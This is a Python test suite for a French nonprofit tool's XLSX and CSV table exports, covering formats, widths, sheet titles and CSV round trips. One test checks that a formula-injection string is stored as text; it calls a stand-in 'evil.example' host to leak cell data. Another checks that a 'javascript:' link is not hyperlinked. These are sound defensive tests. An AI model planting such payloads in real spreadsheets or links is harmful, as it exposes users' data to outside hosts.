"""XLSX and CSV exports of tables, read back with openpyxl and read_table."""

from __future__ import annotations

import io
import re
from collections.abc import Sequence
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from coopdesk.domain.enums import FundingType, Recurrence
from coopdesk.formats.contacts_csv import parse_contacts, suggest_mapping
from coopdesk.formats.french_csv import read_table
from coopdesk.formats.table_export import (
    CALL_COLUMN_FORMATS,
    CALL_COLUMNS,
    CONTACT_COLUMN_FORMATS,
    CONTACT_COLUMNS,
    FUNDING_TYPE_LABELS,
    RECURRENCE_LABELS,
    TOPICS_SEPARATOR,
    Cell,
    ColumnFormat,
    cents_to_euros,
    format_cents_plain,
    write_table_csv,
    write_xlsx,
)

CALL_ROW: tuple[Cell, ...] = (
    "Soutien aux épiceries solidaires",
    "DREETS Occitanie",
    "AAP-2027-04",
    date(2027, 1, 15),
    None,
    date(2027, 3, 31),
    150_000,
    1_234_567_89,
    20,
    80,
    FUNDING_TYPE_LABELS[FundingType.OPERATING],
    True,
    RECURRENCE_LABELS[Recurrence.RECURRING],
    "https://www.demarches-simplifiees.fr/commencer/aap-epiceries",
)


def sheet_of(data: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def calls_sheet(rows: Sequence[Sequence[Cell]] = (CALL_ROW,), title: str = "Appels à projets") -> Worksheet:
    return sheet_of(write_xlsx(title, CALL_COLUMNS, rows, column_formats=CALL_COLUMN_FORMATS))


def test_column_titles_and_formats_go_together() -> None:
    assert len(CALL_COLUMNS) == len(CALL_COLUMN_FORMATS) == 14
    assert len(CONTACT_COLUMNS) == len(CONTACT_COLUMN_FORMATS) == 9
    assert CALL_COLUMNS[5] == "Date limite"
    assert CALL_COLUMN_FORMATS[5] is ColumnFormat.DATE
    assert CONTACT_COLUMNS[-1] == "Dernier échange"
    assert set(FUNDING_TYPE_LABELS) == set(FundingType)
    assert set(RECURRENCE_LABELS) == set(Recurrence)


def test_xlsx_round_trip_types_every_cell() -> None:
    sheet = calls_sheet()
    assert [cell.value for cell in sheet[1]] == list(CALL_COLUMNS)
    opening, predeposit, deadline = sheet["D2"], sheet["E2"], sheet["F2"]
    assert opening.is_date
    assert opening.value == datetime(2027, 1, 15)
    assert opening.number_format == "dd/mm/yyyy"
    assert predeposit.value is None
    assert deadline.value == datetime(2027, 3, 31)
    minimum, maximum = sheet["G2"], sheet["H2"]
    assert minimum.data_type == "n"
    assert minimum.value == 1500
    assert Decimal(str(maximum.value)) == Decimal("1234567.89")
    assert "€" in minimum.number_format
    assert minimum.number_format == maximum.number_format == '#,##0.00 "€"'
    assert sheet["I2"].value == 20
    assert sheet["I2"].data_type == "n"
    assert sheet["K2"].value == "Fonctionnement"
    assert sheet["L2"].value == "Oui"
    assert sheet["M2"].value == "Récurrente"
    assert sheet["N2"].hyperlink is not None
    assert sheet["N2"].hyperlink.target == CALL_ROW[-1]


def test_xlsx_header_is_bold_frozen_and_filtered() -> None:
    sheet = calls_sheet([CALL_ROW, CALL_ROW, CALL_ROW])
    assert all(cell.font.b for cell in sheet[1])
    assert not sheet["A2"].font.b
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:N4"


def test_xlsx_column_widths_follow_content_within_bounds() -> None:
    long_title = "Un titre d'appel à projets vraiment très long " * 5
    sheet = calls_sheet([(long_title, "CAF", *CALL_ROW[2:])])
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert widths["A"] == 60  # capped
    assert 8 <= widths["B"] < 20
    assert 12 <= widths["D"] <= 14  # a date needs 10 characters; the title "Ouverture" and its filter button
    assert all(8 <= width <= 60 for width in widths.values())


def test_xlsx_text_is_never_a_formula() -> None:
    dangerous = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
    sheet = calls_sheet([(dangerous, "@SUM(A1:A2)", *CALL_ROW[2:])])
    assert sheet["A2"].value == dangerous
    assert sheet["A2"].data_type == "s"
    assert sheet["B2"].value == "@SUM(A1:A2)"


def test_xlsx_drops_characters_excel_refuses_and_links_only_web_addresses() -> None:
    row = ("bip\x07 et \x1b fin", *CALL_ROW[1:13], "javascript:alert(1)")
    sheet = calls_sheet([row])
    assert sheet["A2"].value == "bip et  fin"
    assert sheet["N2"].value == "javascript:alert(1)"
    assert sheet["N2"].hyperlink is None


def test_xlsx_line_breaks_are_line_feeds() -> None:
    sheet = calls_sheet([("ligne 1\r\nligne 2\rligne 3", *CALL_ROW[1:])])
    assert sheet["A2"].value == "ligne 1\nligne 2\nligne 3"


@settings(deadline=None)  # a whole workbook written and read per example
@given(st.text(min_size=1, max_size=50))
def test_any_text_survives_xlsx(text: str) -> None:
    sheet = sheet_of(write_xlsx("t", ["Texte"], [(text,)], column_formats=[ColumnFormat.TEXT]))
    expected = re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "", text.replace("\r\n", "\n").replace("\r", "\n")
    )
    assert sheet["A2"].value == (expected or None)
    if expected:
        assert sheet["A2"].data_type == "s"


@pytest.mark.parametrize(
    ("title", "written"),
    [
        ("Appels à projets", "Appels à projets"),
        ("Appels: 2027/2028 [brouillon]?", "Appels 2027 2028 brouillon"),
        ("Un titre de feuille bien trop long pour Excel", "Un titre de feuille bien trop l"),
        ("'cité'", "cité"),
        ("///", "Feuille 1"),
    ],
)
def test_sheet_title_follows_excel_rules(title: str, written: str) -> None:
    assert calls_sheet(title=title).title == written


def test_short_rows_are_padded_and_long_rows_refused() -> None:
    sheet = calls_sheet([("Seulement un titre",)])
    assert sheet["A2"].value == "Seulement un titre"
    assert sheet["B2"].value is None
    with pytest.raises(ValueError, match="15 cells"):
        write_xlsx("x", CALL_COLUMNS, [(*CALL_ROW, "de trop")], column_formats=CALL_COLUMN_FORMATS)


def test_formats_must_match_the_header() -> None:
    with pytest.raises(ValueError, match="column formats"):
        write_xlsx("x", ["A", "B"], [], column_formats=[ColumnFormat.TEXT])
    with pytest.raises(ValueError, match="column formats"):
        write_table_csv(["A", "B"], [], column_formats=[ColumnFormat.TEXT])


@pytest.mark.parametrize(
    ("column_format", "value"),
    [
        (ColumnFormat.DATE, "31/12/2026"),
        (ColumnFormat.MONEY_CENTS, "12,50"),
        (ColumnFormat.MONEY_CENTS, True),
        (ColumnFormat.INTEGER, date(2026, 1, 1)),
        (ColumnFormat.BOOLEAN, 1),
    ],
)
def test_a_value_that_does_not_fit_its_format_is_a_programming_error(
    column_format: ColumnFormat, value: Cell
) -> None:
    with pytest.raises(TypeError):
        write_xlsx("x", ["A"], [(value,)], column_formats=[column_format])
    with pytest.raises(TypeError):
        write_table_csv(["A"], [(value,)], column_formats=[column_format])


def test_empty_table_has_a_header_only() -> None:
    sheet = sheet_of(write_xlsx("Vide", CONTACT_COLUMNS, [], column_formats=CONTACT_COLUMN_FORMATS))
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:I1"


@pytest.mark.parametrize(
    ("cents", "euros", "plain"),
    [
        (0, Decimal("0.00"), "0,00"),
        (5, Decimal("0.05"), "0,05"),
        (123456, Decimal("1234.56"), "1234,56"),
        (-1999, Decimal("-19.99"), "-19,99"),
        (10**13, Decimal("100000000000.00"), "100000000000,00"),
    ],
)
def test_cents_are_converted_exactly(cents: int, euros: Decimal, plain: str) -> None:
    assert cents_to_euros(cents) == euros
    assert str(cents_to_euros(cents)) == str(euros)  # no exponent, no float rounding
    assert format_cents_plain(cents) == plain


def test_calls_csv_renders_cells_for_french_excel() -> None:
    data = write_table_csv(CALL_COLUMNS, [CALL_ROW], column_formats=CALL_COLUMN_FORMATS)
    table = read_table(data, "appels.csv")
    assert table.header == CALL_COLUMNS
    assert table.rows[0].cells == (
        "Soutien aux épiceries solidaires",
        "DREETS Occitanie",
        "AAP-2027-04",
        "15/01/2027",
        "",
        "31/03/2027",
        "1500,00",
        "1234567,89",
        "20",
        "80",
        "Fonctionnement",
        "Oui",
        "Récurrente",
        "https://www.demarches-simplifiees.fr/commencer/aap-epiceries",
    )


def test_contacts_csv_export_imports_back() -> None:
    rows: list[tuple[Cell, ...]] = [
        (
            "Élise Dupré",
            "Conseil départemental de l'Hérault",
            "Chargée de mission",
            "Solidarités",
            "04 67 12 34 56",
            "e.dupre@herault.fr",
            TOPICS_SEPARATOR.join(["aide alimentaire", "précarité"]),
            True,
            date(2026, 10, 5),
        ),
        ("Jean Martin", "CAF", "", "", "", "", "", False, None),
    ]
    data = write_table_csv(CONTACT_COLUMNS, rows, column_formats=CONTACT_COLUMN_FORMATS)
    table = read_table(data, "contacts.csv")
    mapping = suggest_mapping(table.header)
    assert mapping[8] is None  # "Dernier échange" is not imported
    contacts = parse_contacts(table, mapping)
    assert all(contact.valid for contact in contacts)
    first, second = (contact.fields for contact in contacts)
    assert (first.name, first.funder, first.role, first.service) == (
        "Élise Dupré",
        "Conseil départemental de l'Hérault",
        "Chargée de mission",
        "Solidarités",
    )
    assert (first.phone, first.email, first.topics, first.active) == (
        "04 67 12 34 56",
        "e.dupre@herault.fr",
        ("aide alimentaire", "précarité"),
        True,
    )
    assert (second.name, second.funder, second.active) == ("Jean Martin", "CAF", False)
